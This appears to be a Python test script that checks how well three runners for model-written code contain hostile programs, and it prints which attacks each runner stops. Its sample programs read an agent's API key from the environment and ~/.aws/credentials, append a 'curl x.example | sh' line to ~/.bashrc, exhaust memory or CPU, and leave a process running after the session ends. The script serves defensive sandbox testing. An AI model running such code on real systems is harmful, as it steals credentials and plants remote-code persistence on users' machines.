import os
import signal
import subprocess
import sys
import tempfile
import time
from pathlib import Path

API_KEY = "sk-demo-0000-not-a-real-key"
AWS_KEY = "aws-demo-1111-not-a-real-key"
# The agent host's own credential, in its environment as it usually is
os.environ["AGENT_API_KEY"] = API_KEY
# Bytes of a program's output that runner 3 hands back to the agent
OUTPUT_CAP = 16 * 1024
# Seconds of wall clock
TIMEOUT = 3

# Programs "the model wrote"; {home} is the user's home, outside the workspace.
PROGRAMS = {
    "benign arithmetic": "print(sum(i * i for i in range(1000)))",
    "endless loop": "while True:\n    pass",
    "memory hog, 256 MiB": "chunks = [b'x' * 2**26 for _ in range(4)]\nprint('got it')",
    "secret from env": "import os\nprint(os.environ.get('AGENT_API_KEY'))",
    "secret from ~/.aws": "print(open('{home}/.aws/credentials').read())",
    "append to ~/.bashrc": "open('{home}/.bashrc', 'a').write('curl x.example | sh')",
    "8 MiB of output": "print('A' * 8 * 2**20)",
    "background process": (
        "import subprocess as sp, sys\n"
        "child = sp.Popen([sys.executable, '-c', 'import time; time.sleep(60)'],\n"
        "                 stdin=sp.DEVNULL, stdout=sp.DEVNULL, stderr=sp.DEVNULL)\n"
        "print('pid', child.pid)"
    ),
}


def exit_status(returncode):
    if returncode < 0:
        return signal.Signals(-returncode).name
    return f"exit {returncode}"


# Runner 1: the agent host exec()s the code in its own process, with its own
# environment and working directory. It runs in a child here only so that the
# test can kill a hung host; a real host would just hang.
HOST = """
import contextlib, io, sys
captured = io.StringIO()
with contextlib.redirect_stdout(captured):
    try:
        exec(sys.argv[1], {})
    except Exception as error:
        print(type(error).__name__, error)
print(captured.getvalue(), end="")
"""


def in_process_exec(code, workspace):
    command = [sys.executable, "-c", HOST, code]
    try:
        done = subprocess.run(
            command, cwd=workspace, capture_output=True, timeout=TIMEOUT
        )
    except subprocess.TimeoutExpired:
        return b"", "host hung"
    return done.stdout, exit_status(done.returncode)


# Runner 2: a separate process with a wall-clock timeout, nothing else.
def timeout_only(code, workspace):
    command = [sys.executable, "-c", code]
    try:
        done = subprocess.run(
            command, cwd=workspace, capture_output=True, timeout=TIMEOUT
        )
    except subprocess.TimeoutExpired:
        return b"", "timeout"
    return done.stdout + done.stderr, exit_status(done.returncode)


# Runner 3: limits set in the child, which then execs the interpreter that runs
# the code (limits survive exec); soft = hard, so the code cannot raise them.
LIMITS = """
import os, resource, sys
# 1 s of CPU, then SIGXCPU (2 s: SIGKILL)
resource.setrlimit(resource.RLIMIT_CPU, (1, 2))
resource.setrlimit(resource.RLIMIT_AS, (128 * 2**20,) * 2)
# 1 MiB for any file it writes, its captured output included
resource.setrlimit(resource.RLIMIT_FSIZE, (2**20,) * 2)
resource.setrlimit(resource.RLIMIT_CORE, (0, 0))
os.execv(sys.executable, [sys.executable, "-I", "-c", sys.argv[1]])
"""


def group_alive(pgid):
    for stat in Path("/proc").glob("[0-9]*/stat"):
        try:
            fields = stat.read_text().rsplit(")", 1)[1].split()
        except OSError:
            continue
        if int(fields[2]) == pgid and fields[0] not in "ZX":
            return True
    return False


def kill_group(pgid):
    """Kill everything left in the child's process group, and wait until it is gone."""
    try:
        os.killpg(pgid, signal.SIGKILL)
    except ProcessLookupError:
        return
    deadline = time.monotonic() + 10
    while group_alive(pgid) and time.monotonic() < deadline:
        time.sleep(0.01)


def limited(code, workspace):
    with tempfile.TemporaryDirectory() as scratch:
        log = Path(scratch, "output")
        with open(log, "wb") as output:
            child = subprocess.Popen(
                [sys.executable, "-I", "-c", LIMITS, code],
                cwd=workspace,
                env={"PATH": "/usr/bin:/bin", "HOME": str(workspace)},
                stdin=subprocess.DEVNULL,
                stdout=output,
                stderr=subprocess.STDOUT,
                start_new_session=True,
            )
            try:
                # A backstop for code that sleeps; the CPU limit stops busy loops
                status = exit_status(child.wait(timeout=10 * TIMEOUT))
            except subprocess.TimeoutExpired:
                status = "timeout"
            # On exit or on timeout: nothing in its process group may outlive the run
            kill_group(child.pid)
            child.wait()
        with open(log, "rb") as output:
            return output.read(OUTPUT_CAP), status


def alive(pid):
    try:
        state = Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0]
    except OSError:
        return False
    return state not in "ZX"


def judge(name, output, status, home, leftover):
    """Did the attack succeed (for the benign program: did it work)? Decided by
    exit status and effects, never by timing. Returns the verdict and evidence."""
    text = output.decode(errors="replace").strip()
    last = text.splitlines()[-1][:36] if text else "(no output)"
    if name == "benign arithmetic":
        return "332833500" in text, last
    if name == "endless loop":
        return status == "host hung", last
    if name.startswith("memory hog"):
        return "got it" in text, last
    if name == "secret from env":
        return API_KEY in text, last
    if name == "secret from ~/.aws":
        return AWS_KEY in text, last
    if name == "append to ~/.bashrc":
        bashrc = (home / ".bashrc").read_text()
        return "x.example" in bashrc, "~/.bashrc ends: " + bashrc.splitlines()[-1]
    if name == "8 MiB of output":
        return len(output) > OUTPUT_CAP, f"the agent read {len(output):,} bytes"
    pid = int(text.split()[1])
    leftover.append(pid)
    outlived = alive(pid)
    return outlived, f"its child alive after the run: {outlived}"


RUNNERS = {
    "in-process exec": in_process_exec,
    "timeout only": timeout_only,
    "rlimits, clean env": limited,
}
# Background processes that outlived their runner, killed at the end
leftover = []
verdicts, evidence = {}, {}
for name, template in PROGRAMS.items():
    for runner_name, runner in RUNNERS.items():
        with tempfile.TemporaryDirectory() as root:
            home, workspace = Path(root, "home"), Path(root, "workspace")
            (home / ".aws").mkdir(parents=True)
            (home / ".aws" / "credentials").write_text(
                f"aws_secret_access_key={AWS_KEY}"
            )
            (home / ".bashrc").write_text("export PATH=$HOME/bin:$PATH\n")
            workspace.mkdir()
            output, status = runner(template.format(home=home), workspace)
            verdict, seen = judge(name, output, status, home, leftover)
            verdicts[name, runner_name] = verdict
            evidence[name, runner_name] = f"{status:9} {seen}"
for pid in leftover:
    if alive(pid):
        os.kill(pid, signal.SIGKILL)
del os.environ["AGENT_API_KEY"]

print(f"{'program':20}" + "".join(f"{r:>20}" for r in RUNNERS))
for name in PROGRAMS:
    if name == "benign arithmetic":
        words = {True: "works", False: "BROKEN"}
    elif name == "endless loop":
        words = {True: "HUNG THE HOST", False: "stopped"}
    else:
        words = {True: "ran", False: "stopped"}
    print(f"{name:20}" + "".join(f"{words[verdicts[name, r]]:>20}" for r in RUNNERS))
attacks = list(PROGRAMS)[1:]
stopped = [sum(not verdicts[a, r] for a in attacks) for r in RUNNERS]
print(
    f"{'attacks stopped':20}" + "".join(f"{f'{n}/{len(attacks)}':>20}" for n in stopped)
)
print("\nrlimits, clean env: how each program ended, and what the agent saw")
for name in PROGRAMS:
    print(f"  {name:20} {evidence[name, 'rlimits, clean env']}")
